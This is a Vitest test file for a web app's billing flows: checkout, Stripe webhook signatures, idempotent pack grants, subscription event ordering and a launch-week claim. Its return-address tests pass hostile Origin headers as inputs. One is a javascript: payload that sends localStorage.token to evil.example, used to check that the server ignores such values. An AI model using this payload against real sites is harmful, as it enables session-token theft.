import { randomUUID } from 'node:crypto'
import { describe, expect, inject, it } from 'vitest'
import { LAUNCH_WEEK_ALREADY_CLAIMED, PRODUCTS } from '../../shared/domain/catalogue'
import { apiAt, signUp } from '../support/api'
import { checkoutCompleted, postStripeEvent } from '../support/stripe-events'

const base = inject('stackUrl')
const api = apiAt(base)
const secret = inject('stripeWebhookSecret')

const postEvent = (event: object, signWith = secret) => postStripeEvent(base, JSON.stringify(event), signWith)

const profileOf = async (token: string) => (await api.get('/api/profile', token)).body.profile

describe('the catalogue', () => {
  it('lists the monthly plans and one-time packs with their price ids, to anyone', async () => {
    const { status, body } = await api.get('/api/billing/products')
    expect(status).toBe(200)
    expect(body.products.map((p: { id: string }) => p.id)).toEqual(PRODUCTS.map((p) => p.id))
    expect(body.products.find((p: { id: string }) => p.id === 'bulk')).toMatchObject({
      mode: 'payment',
      pitches: 10,
    })
  })
})

describe('checkout on the local payment page', () => {
  it('buys Growth: Pay posts a signed event, the founder lands on /checkout/success with the plan', async () => {
    const f = await signUp(api)
    const checkout = await api.call('POST', '/api/billing/create-checkout', {
      body: { productId: 'growth' },
      token: f.token,
      headers: { origin: base },
    })
    expect(checkout.status).toBe(200)
    const pageUrl = new URL(checkout.body.url)
    expect(pageUrl.pathname).toMatch(/^\/local\/checkout\//)
    expect(await (await fetch(pageUrl)).text()).toContain('Growth')

    const paid = await fetch(`${pageUrl}/pay`, { method: 'POST', redirect: 'manual' })
    expect(paid.status).toBe(303)
    expect(paid.headers.get('location')).toMatch(new RegExp(`^${base}/checkout/success\\?session_id=`))
    expect(await profileOf(f.token)).toMatchObject({ subscription_tier: 'growth', pitches_used: 0 })
  })

  it('cancelling returns to /checkout/cancel and changes nothing', async () => {
    const f = await signUp(api)
    const { body } = await api.call('POST', '/api/billing/create-checkout', {
      body: { productId: 'pro' },
      token: f.token,
      headers: { origin: base },
    })
    const cancelled = await fetch(`${body.url}/cancel`, { method: 'POST', redirect: 'manual' })
    expect(cancelled.headers.get('location')).toBe(`${base}/checkout/cancel`)
    expect((await profileOf(f.token)).subscription_tier).toBe('free')
  })

  it('pays a session once, however often and concurrently Pay is pressed', async () => {
    const f = await signUp(api)
    const { body } = await api.post('/api/billing/create-checkout', { productId: 'mini' }, f.token)
    const pay = () => fetch(`${body.url}/pay`, { method: 'POST', redirect: 'manual' })
    const paid = [...(await Promise.all([pay(), pay(), pay()])), await pay()]
    for (const response of paid) {
      expect(response.status).toBe(303)
      expect(response.headers.get('location')).toMatch(new RegExp(`^${base}/checkout/success\\?session_id=`))
    }
    expect((await profileOf(f.token)).pitches_purchased).toBe(2)
    expect(await (await fetch(body.url)).text()).toContain('This order is already paid')
  })

  it('refuses an unknown product with 404', async () => {
    const f = await signUp(api)
    expect((await api.post('/api/billing/create-checkout', { productId: 'platinum' }, f.token)).status).toBe(
      404,
    )
  })
})

describe('return addresses', () => {
  const checkoutWith = (token: string, origin: string, productId = 'mini') =>
    api.call('POST', '/api/billing/create-checkout', { body: { productId }, token, headers: { origin } })

  it("come from the app's own address, whatever Origin the request names", async () => {
    const f = await signUp(api)
    for (const origin of ['null', 'javascript:alert(document.domain)//', 'https://evil.example', '']) {
      const checkout = await checkoutWith(f.token, origin)
      expect(checkout.status, origin).toBe(200)
      expect(checkout.body.url, origin).toMatch(new RegExp(`^${base}/local/checkout/`))
      const cancelled = await fetch(`${checkout.body.url}/cancel`, { method: 'POST', redirect: 'manual' })
      expect(cancelled.headers.get('location'), origin).toBe(`${base}/checkout/cancel`)
    }
  })

  it('never put a javascript: link on the billing portal page', async () => {
    const f = await signUp(api)
    const checkout = await checkoutWith(f.token, base, 'starter')
    await fetch(`${checkout.body.url}/pay`, { method: 'POST', redirect: 'manual' })
    const portal = await api.call('GET', '/api/billing/portal', {
      token: f.token,
      headers: { origin: 'javascript:fetch(`//evil.example/`+localStorage.token)//' },
    })
    expect(portal.status).toBe(200)
    expect(portal.body.url).toMatch(new RegExp(`^${base}/local/portal/`))
    const page = await (await fetch(portal.body.url)).text()
    expect(page).not.toContain('javascript:')
    expect(page).toContain(`href="${base}/profile"`)
  })
})

describe('the Stripe webhook', () => {
  it('refuses a bad signature with 400 and changes nothing', async () => {
    const f = await signUp(api)
    const response = await postEvent(checkoutCompleted(f.id, 'pro'), 'whsec_not_the_secret')
    expect(response.status).toBe(400)
    expect(await response.json()).toEqual({ message: 'Invalid Stripe signature' })
    expect((await profileOf(f.token)).subscription_tier).toBe('free')
  })

  it('refuses a signed event that carries no data with 400', async () => {
    const response = await postEvent({
      id: `evt_${randomUUID()}`,
      object: 'event',
      type: 'checkout.session.completed',
    })
    expect(response.status).toBe(400)
    expect(await response.json()).toEqual({ message: 'This Stripe event carries no data.object' })
  })

  it('adds a pack once, however often and concurrently the same event arrives', async () => {
    const f = await signUp(api)
    const event = checkoutCompleted(f.id, 'bulk')
    const deliveries = await Promise.all([postEvent(event), postEvent(event), postEvent(event)])
    expect(deliveries.map((d) => d.status)).toEqual([200, 200, 200])
    await postEvent(event)
    expect((await profileOf(f.token)).pitches_purchased).toBe(10)
    await postEvent(checkoutCompleted(f.id, 'mini'))
    expect((await profileOf(f.token)).pitches_purchased).toBe(12)
  })

  it('adds a pack paid by a delayed method only once the payment succeeds, and never when it fails', async () => {
    const f = await signUp(api)
    // A bank debit: Checkout completes with the money still on its way (Stripe's payment_status 'unpaid').
    const unpaid = (productId: string, type = 'checkout.session.completed') => {
      const event = checkoutCompleted(f.id, productId)
      event.type = type
      Object.assign(event.data.object, { payment_status: type.endsWith('succeeded') ? 'paid' : 'unpaid' })
      return event
    }
    const completed = unpaid('bulk')
    expect((await postEvent(completed)).status).toBe(200)
    expect((await profileOf(f.token)).pitches_purchased).toBe(0)
    const succeeded = unpaid('bulk', 'checkout.session.async_payment_succeeded')
    expect((await postEvent(succeeded)).status).toBe(200)
    await postEvent(succeeded)
    expect((await profileOf(f.token)).pitches_purchased).toBe(10)

    // A second pack whose debit is refused: checkout.session.async_payment_failed adds nothing either.
    await postEvent(unpaid('mini'))
    await postEvent(unpaid('mini', 'checkout.session.async_payment_failed'))
    expect((await profileOf(f.token)).pitches_purchased).toBe(10)
  })

  it('returns a cancelled subscription to the free plan', async () => {
    const f = await signUp(api)
    await postEvent(checkoutCompleted(f.id, 'pro'))
    expect((await profileOf(f.token)).subscription_tier).toBe('pro')
    await postEvent({
      id: `evt_${randomUUID()}`,
      object: 'event',
      type: 'customer.subscription.deleted',
      data: {
        object: {
          object: 'subscription',
          status: 'canceled',
          metadata: { userId: f.id },
          items: { data: [] },
        },
      },
    })
    expect((await profileOf(f.token)).subscription_tier).toBe('free')
  })

  it('starts a new month of pitches when a renewal invoice is paid', async () => {
    const f = await signUp(api)
    await postEvent(checkoutCompleted(f.id, 'starter'))
    await api.post(
      '/api/companies',
      { name: 'Acme', short_description: 'Robots for warehouses.', recent_funding: 'Raised a seed round.' },
      f.token,
    )
    const { company } = (await api.get('/api/companies/current', f.token)).body
    await api.post('/api/pitches/generate', { companyId: company.id, journalistId: 'demo-000001' }, f.token)
    expect((await profileOf(f.token)).pitches_used).toBe(1)
    await postEvent({
      id: `evt_${randomUUID()}`,
      object: 'event',
      type: 'invoice.paid',
      data: {
        object: {
          object: 'invoice',
          billing_reason: 'subscription_cycle',
          parent: { subscription_details: { metadata: { userId: f.id } } },
        },
      },
    })
    expect((await profileOf(f.token)).pitches_used).toBe(0)
  })
})

describe('plan changes', () => {
  const subscriptionEvent = (
    type: string,
    userId: string,
    subscriptionId: string,
    { created = Math.floor(Date.now() / 1000), status = 'canceled', productId = 'growth' } = {},
  ) => ({
    id: `evt_${randomUUID()}`,
    object: 'event',
    type,
    created,
    data: {
      object: {
        object: 'subscription',
        id: subscriptionId,
        status,
        metadata: { userId, productId },
        items: { data: [] },
      },
    },
  })
  const subscribedTo = (userId: string, productId: string, subscriptionId: string, created: number) => {
    const event = { ...checkoutCompleted(userId, productId), created }
    ;(event.data.object as Record<string, unknown>).subscription = subscriptionId
    return event
  }

  it('go through the billing portal: a second plan checkout is refused with 409', async () => {
    const f = await signUp(api)
    const subscribed = checkoutCompleted(f.id, 'growth')
    ;(subscribed.data.object as Record<string, unknown>).subscription = 'sub_current'
    await postEvent(subscribed)
    const second = await api.post('/api/billing/create-checkout', { productId: 'pro' }, f.token)
    expect(second.status).toBe(409)
    expect(second.body.message).toContain('billing portal')
    expect((await api.post('/api/billing/create-checkout', { productId: 'mini' }, f.token)).status).toBe(200)
  })

  it('an old subscription ending does not downgrade the current one', async () => {
    const f = await signUp(api)
    const subscribed = checkoutCompleted(f.id, 'growth')
    ;(subscribed.data.object as Record<string, unknown>).subscription = 'sub_current'
    await postEvent(subscribed)
    expect(
      (await postEvent(subscriptionEvent('customer.subscription.deleted', f.id, 'sub_old'))).status,
    ).toBe(200)
    expect((await profileOf(f.token)).subscription_tier).toBe('growth')
    await postEvent(subscriptionEvent('customer.subscription.deleted', f.id, 'sub_current'))
    expect((await profileOf(f.token)).subscription_tier).toBe('free')
  })

  it('are applied in the order Stripe made them, whatever order they arrive in', async () => {
    const f = await signUp(api)
    const t0 = Math.floor(Date.now() / 1000)
    await postEvent(subscribedTo(f.id, 'starter', 'sub_a', t0))
    const updated = (created: number, productId: string) =>
      subscriptionEvent('customer.subscription.updated', f.id, 'sub_a', {
        created,
        status: 'active',
        productId,
      })
    // Moved to Pro, then an older change to Growth arrives late: still Pro.
    expect((await (await postEvent(updated(t0 + 20, 'pro'))).json()).applied).toBe(true)
    expect((await (await postEvent(updated(t0 + 10, 'growth'))).json()).applied).toBe(false)
    expect((await profileOf(f.token)).subscription_tier).toBe('pro')

    // Cancelled; an update made before the cancellation, delivered after it, brings nothing back.
    await postEvent(subscriptionEvent('customer.subscription.deleted', f.id, 'sub_a', { created: t0 + 30 }))
    expect((await profileOf(f.token)).subscription_tier).toBe('free')
    const late = await postEvent(updated(t0 + 25, 'pro'))
    expect(late.status).toBe(200)
    expect((await profileOf(f.token)).subscription_tier).toBe('free')
  })

  it("a checkout delivered after its subscription's deletion grants no plan", async () => {
    const f = await signUp(api)
    const t0 = Math.floor(Date.now() / 1000)
    await postEvent(
      subscriptionEvent('customer.subscription.deleted', f.id, 'sub_gone', { created: t0 + 60 }),
    )
    expect((await postEvent(subscribedTo(f.id, 'pro', 'sub_gone', t0))).status).toBe(200)
    expect((await profileOf(f.token)).subscription_tier).toBe('free')
    // A new subscription afterwards is a plan as any other.
    await postEvent(subscribedTo(f.id, 'growth', 'sub_new', t0 + 120))
    expect((await profileOf(f.token)).subscription_tier).toBe('growth')
  })

  it('the local billing portal cancels the current subscription', async () => {
    const f = await signUp(api)
    const checkout = await api.call('POST', '/api/billing/create-checkout', {
      body: { productId: 'starter' },
      token: f.token,
      headers: { origin: base },
    })
    await fetch(`${checkout.body.url}/pay`, { method: 'POST', redirect: 'manual' })
    const portal = await api.call('GET', '/api/billing/portal', { token: f.token, headers: { origin: base } })
    expect(await (await fetch(portal.body.url)).text()).toContain('starter')
    const cancelled = await fetch(`${portal.body.url}/cancel-subscription`, {
      method: 'POST',
      redirect: 'manual',
    })
    expect(cancelled.headers.get('location')).toBe(`${base}/profile`)
    expect((await profileOf(f.token)).subscription_tier).toBe('free')
  })
})

describe('launch week', () => {
  it('grants 15 pitches once, even to two concurrent claims, and says so in plain text', async () => {
    const f = await signUp(api)
    await api.put('/api/profile', { first_name: 'Grace', last_name: 'hopper' }, f.token)
    const before = (await api.get('/api/free-tier/launch-week')).body
    const claims = await Promise.all(
      [0, 1].map(() =>
        fetch(new URL('/api/free-tier/claim-launch-week', base), {
          method: 'POST',
          headers: { authorization: `Bearer ${f.token}`, 'content-type': 'application/json' },
          body: JSON.stringify({ userId: f.id }),
        }),
      ),
    )
    const statuses = claims.map((c) => c.status).sort()
    expect(statuses).toEqual([200, 409])
    const refused = claims.find((c) => c.status === 409)
    expect(refused?.headers.get('content-type')).toMatch(/^text\/plain/)
    expect(await refused?.text()).toBe(LAUNCH_WEEK_ALREADY_CLAIMED)
    expect(await profileOf(f.token)).toMatchObject({ launch_week_claimed: true, free_pitches_remaining: 15 })

    const after = (await api.get('/api/free-tier/launch-week')).body
    expect(after.spotsLeft).toBe(before.spotsLeft - 1)
    // Claimed without asking to be named: the public ticker does not name her.
    expect(after.recentClaims[0]).toEqual({ name: 'A founder', claimed_at: expect.any(String) })
    expect(JSON.stringify(after.recentClaims)).not.toContain('Grace')
  })

  it('names a founder in the public ticker only when they agreed at the claim', async () => {
    const f = await signUp(api)
    await api.put('/api/profile', { first_name: 'Ada', last_name: 'lovelace' }, f.token)
    const claim = await api.post('/api/free-tier/claim-launch-week', { showName: true }, f.token)
    expect(claim.status).toBe(200)
    const { recentClaims } = (await api.get('/api/free-tier/launch-week')).body
    expect(recentClaims).toContainEqual({ name: 'Ada L.', claimed_at: expect.any(String) })
  })
})
